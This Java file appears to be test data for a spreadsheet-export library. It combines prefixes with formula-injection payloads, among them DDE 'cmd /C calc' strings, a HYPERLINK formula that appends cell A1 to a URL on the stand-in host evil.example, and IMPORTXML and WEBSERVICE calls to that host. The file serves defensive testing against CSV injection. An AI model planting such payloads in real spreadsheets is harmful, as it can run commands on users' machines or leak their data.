package dev.plumbline.sheets;

import java.util.List;
import java.util.regex.Pattern;

/** Texts that spreadsheets would run, if they took them for formulas. */
final class HostileTexts {

    /** What a spreadsheet takes for a formula, written down apart from the code under test. */
    static final Pattern RUNS = Pattern.compile(
            "^[\\p{IsWhite_Space}\\p{Cntrl}\\p{Cf}\\p{Z}]*[=+\\-@\uFF1D\uFF0B\uFF0D\uFF20].*", Pattern.DOTALL);

    private static final List<String> BEGINNINGS = List.of(
            "=", "+", "-", "@", "\t=", "\r=", "\n=", "\u0000=", " =", "\u00A0=", "\u200B=", "\uFEFF=", "\u202E=",
            "\u3000=", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\t", "\r");

    private static final List<String> ENDINGS = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "IMPORTXML(\"https://evil.example\",\"//a\")",
            "WEBSERVICE(\"https://evil.example\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "SUM(A1:A9)*cmd|'/C calc'!A0",
            "2+3\",\"=1+1",
            "1\n=2\r\n=3",
            "'=1");

    private HostileTexts() {}

    static List<String> all() {
        return BEGINNINGS.stream()
                .flatMap(first -> ENDINGS.stream().map(last -> first + last))
                .toList();
    }
}
